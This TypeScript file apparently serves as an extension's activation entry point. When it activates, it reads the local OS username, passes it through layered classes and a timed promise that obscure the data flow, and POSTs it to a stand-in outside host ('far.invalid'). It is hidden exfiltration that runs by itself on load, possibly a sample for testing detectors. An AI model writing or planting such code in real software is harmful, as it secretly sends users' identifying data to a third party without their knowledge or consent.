import * as os from 'os';
const name = () => os.userInfo().username;
const later = async () => { await new Promise((done) => setTimeout(done, 1)); return name(); };
const send = (data: unknown) => { fetch('https://far.invalid/', { method: 'POST', body: String(data) }); };

abstract class Base { abstract val(): Promise<string>; async go() { send(await this.val()); } } class Subject extends Base { async val() { return later(); } }

export async function activate() {
  await new Subject().go();
}
